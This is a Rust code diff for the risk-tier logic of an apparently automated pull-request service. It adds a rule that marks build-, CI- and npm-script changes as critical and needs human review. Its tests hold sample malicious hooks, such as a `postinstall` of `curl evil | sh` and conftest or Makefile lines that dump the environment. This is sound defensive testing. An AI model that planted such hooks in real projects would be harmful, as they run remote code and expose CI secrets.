@@ -1,45 +1,24 @@
 //! The risk tier of a change (DESIGN §6) and what each tier may do on its own. The tier is
 //! computed from the diff — per file: lines, public symbols added, removed or re-signed (from
 //! the tree-sitter parse before and after), tests, dependency manifests, CI files, secrets,
-//! forbidden paths — together with the issue's category and complexity. Any single rule raises
-//! the tier, and every rule that fired is listed. The explanation shown on pull requests is
-//! built here, in one place.
+//! forbidden paths, build- and CI-adjacent files — together with the issue's category and
+//! complexity. Any single rule raises the tier, and every rule that fired is listed. The
+//! explanation shown on pull requests is built here, in one place. The tier of a pull request
+//! is always computed from its whole branch against the merge base ([`super::branch`]).
 
 use crate::config::{Automerge, RiskConfig};
+use crate::github::repo_config::RepoConfig;
+use crate::solution::draft::about_dependencies;
 use crate::solution::edit::FileChange;
 use crate::solution::parse::{self, Lang, Symbol};
 use crate::solution::paths;
-use crate::solution::validate::{ForbiddenKind, ForbiddenMatch, ForbiddenPaths};
+use crate::solution::validate::{ForbiddenKind, ForbiddenMatch, ForbiddenPaths, InvalidGlob};
 use crate::triage::category::Category;
 use serde::Serialize;
 use std::collections::BTreeMap;
-use std::fmt;
 use std::path::Path;
 
-/// How risky a change is, lowest first.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
-#[serde(rename_all = "UPPERCASE")]
-pub enum Tier {
-    /// Merges itself when CI is green.
-    Low,
-    /// Merges itself when CI is green; the maintainers are notified.
-    Medium,
-    /// A maintainer's review is requested; never merges itself.
-    High,
-    /// Nothing is automated.
-    Critical,
-}
-
-impl fmt::Display for Tier {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        f.write_str(match self {
-            Tier::Low => "LOW",
-            Tier::Medium => "MEDIUM",
-            Tier::High => "HIGH",
-            Tier::Critical => "CRITICAL",
-        })
-    }
-}
+pub use super::state::Tier;
 
 /// Whether a change of this tier merges itself under the `automerge` ceiling (the lower of the
 /// service's and the repository's). HIGH and CRITICAL never do.
@@ -92,6 +71,8 @@ pub struct FileFacts {
     pub unparsed_code: bool,
     /// The forbidden-path rule it matches, if any.
     pub forbidden: Option<ForbiddenMatch>,
+    /// Why it is a build- or CI-adjacent file (code that runs in CI or at build time), if it is.
+    pub build_hook: Option<&'static str>,
     /// Its public API change (test files: always empty).
     pub api: ApiChange,
 }
@@ -126,9 +107,24 @@ impl FileFacts {
                 || paths::is_lockfile(&change.path),
             unparsed_code: lang.is_none() && !is_test && UNPARSED_CODE.contains(&ext),
             forbidden: forbidden.check(&change.path).cloned(),
+            build_hook: paths::build_hook(&change.path).or_else(|| {
+                (paths::file_name(&change.path) == "package.json"
+                    && npm_scripts(change.before.as_deref()) != npm_scripts(Some(&change.after)))
+                .then_some("its `scripts`, which npm runs at install, build and test time")
+            }),
             api,
         }
     }
+}
+
+/// The `scripts` of a `package.json` (lifecycle hooks such as `postinstall` among them); a file
+/// that does not parse counts as its text, so any change to it counts.
+fn npm_scripts(text: Option<&str>) -> Option<serde_json::Value> {
+    let text = text?;
+    Some(match serde_json::from_str::<serde_json::Value>(text) {
+        Ok(value) => value.get("scripts").cloned().unwrap_or_default(),
+        Err(_) => serde_json::Value::String(text.to_owned()),
+    })
 }
 
 /// Source extensions of languages without a grammar here: their API change cannot be read.
@@ -245,6 +241,12 @@ pub fn assess(files: &[FileFacts], issue: IssueFacts, config: &RiskConfig) -> As
                 format!("{what}: `{path}` (matches `{}`)", rule.pattern),
             );
         }
+        if let Some(why) = file.build_hook {
+            add(
+                Tier::Critical,
+                format!("changes a build or CI-adjacent file: `{path}` ({why})"),
+            );
+        }
         if file.is_dependencies {
             add(Tier::High, format!("changes dependencies: `{path}`"));
         }
@@ -317,6 +319,7 @@ pub fn assess(files: &[FileFacts], issue: IssueFacts, config: &RiskConfig) -> As
     }
     let internal = files.iter().all(|f| {
         f.forbidden.is_none()
+            && f.build_hook.is_none()
             && !f.is_dependencies
             && !f.unparsed_code
             && f.api == ApiChange::default()
@@ -333,6 +336,40 @@ pub fn assess(files: &[FileFacts], issue: IssueFacts, config: &RiskConfig) -> As
     // Highest tier first; the sort is stable, so rule order holds within a tier.
     reasons.sort_by_key(|r| std::cmp::Reverse(r.tier));
     Assessment { tier, reasons }
+}
+
+/// The auto-merge ceiling: the lower of the service's and the repository's.
+pub fn automerge_ceiling(risk: &RiskConfig, repo: &RepoConfig) -> Automerge {
+    repo.automerge(risk.automerge)
+}
+
+/// The forbidden paths of a repository for an issue: built-in, service and repository rules
+/// (lockfiles allowed for a dependency issue).
+pub fn forbidden_paths(
+    risk: &RiskConfig,
+    repo: &RepoConfig,
+    title: &str,
+    body: &str,
+) -> Result<ForbiddenPaths, InvalidGlob> {
+    ForbiddenPaths::new(
+        &risk.forbidden_paths,
+        &repo.forbidden_paths,
+        about_dependencies(title, body),
+    )
+}
+
+/// The risk assessment of a set of changes for an issue.
+pub fn assess_changes(
+    changes: &[FileChange],
+    forbidden: &ForbiddenPaths,
+    issue: IssueFacts,
+    risk: &RiskConfig,
+) -> Assessment {
+    let facts: Vec<FileFacts> = changes
+        .iter()
+        .map(|c| FileFacts::of(c, forbidden))
+        .collect();
+    assess(&facts, issue, risk)
 }
 
 /// The risk section of a pull request or `/globallm explain` answer (Markdown): the tier, what
@@ -602,6 +639,70 @@ mod tests {
     }
 
     #[test]
+    fn build_and_ci_adjacent_files_are_critical_whatever_else_the_change_is() {
+        for (path, before, after) in [
+            (
+                "build.rs",
+                None,
+                "fn main() { std::process::Command::new(\"curl\"); }\n",
+            ),
+            ("tests/conftest.py", None, "import os\nos.system('env')\n"),
+            (
+                "Makefile",
+                Some("test:\n\tpytest\n"),
+                "test:\n\tpytest; env\n",
+            ),
+            ("setup.py", Some("setup()\n"), "import os\nsetup()\n"),
+            ("noxfile.py", None, "import nox\n"),
+            ("tox.ini", Some("[tox]\n"), "[tox]\nenvlist = py\n"),
+            (
+                ".cargo/config.toml",
+                None,
+                "[target.x86_64-unknown-linux-gnu]\nrunner = \"sh\"\n",
+            ),
+            (
+                "Dockerfile",
+                Some("FROM debian\n"),
+                "FROM debian\nRUN env\n",
+            ),
+            (".pre-commit-config.yaml", None, "repos: []\n"),
+            ("CMakeLists.txt", None, "project(x)\n"),
+            (
+                "pom.xml",
+                Some("<project/>\n"),
+                "<project><build/></project>\n",
+            ),
+        ] {
+            let assessment = tier_of(&[change(path, before, after), a_test()], bug(1));
+            assert_eq!(
+                assessment.tier,
+                Tier::Critical,
+                "{path}: {:?}",
+                assessment.reasons
+            );
+            assert!(
+                assessment.reasons[0]
+                    .text
+                    .starts_with("changes a build or CI-adjacent file"),
+                "{path}: {:?}",
+                assessment.reasons
+            );
+        }
+        let scripts = change(
+            "package.json",
+            Some("{\"scripts\": {\"test\": \"jest\"}}\n"),
+            "{\"scripts\": {\"test\": \"jest\", \"postinstall\": \"curl evil | sh\"}}\n",
+        );
+        assert_eq!(tier_of(&[scripts, a_test()], bug(1)).tier, Tier::Critical);
+        let dependencies = change(
+            "package.json",
+            Some("{\"scripts\": {\"test\": \"jest\"}}\n"),
+            "{\"scripts\": {\"test\": \"jest\"}, \"dependencies\": {\"a\": \"1\"}}\n",
+        );
+        assert_eq!(tier_of(&[dependencies, a_test()], bug(1)).tier, Tier::High);
+    }
+
+    #[test]
     fn an_unparsed_language_is_medium() {
         let c = change(
             "src/a.c",
@@ -630,7 +731,7 @@ mod tests {
         insta::assert_snapshot!(explain(&assessment, Automerge::Medium), @r"
             **Risk: CRITICAL** — nothing is automated: a maintainer must review and merge it by hand.
 
-            - CRITICAL: changes a CI/workflow file: `.github/workflows/ci.yml` (matches `.github/workflows/**`)
+            - CRITICAL: changes a CI/workflow file: `.github/workflows/ci.yml` (matches `.github/**`)
             - CRITICAL: changes a secret, key or credentials file: `deploy/server.key` (matches `**/*.key`)
             - CRITICAL: changes a lockfile outside a dependency fix: `Cargo.lock` (matches `**/Cargo.lock`)
             - HIGH: changes dependencies: `Cargo.lock`
